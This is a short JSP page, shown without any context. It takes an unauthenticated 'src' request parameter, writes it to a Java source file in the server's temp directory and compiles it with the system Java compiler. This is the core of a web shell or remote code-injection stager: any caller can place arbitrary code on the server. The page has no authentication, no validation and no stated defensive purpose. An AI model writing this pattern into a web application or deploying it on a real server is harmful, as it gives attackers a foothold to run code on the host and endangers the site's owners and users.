<%@ page import="javax.tools.*,java.io.*" %><%
String src = request.getParameter("src");
File f = new File(System.getProperty("java.io.tmpdir"), "T.java");
FileWriter w = new FileWriter(f); w.write(src); w.close();
ToolProvider.getSystemJavaCompiler().run(null, null, null, f.getPath());
%>
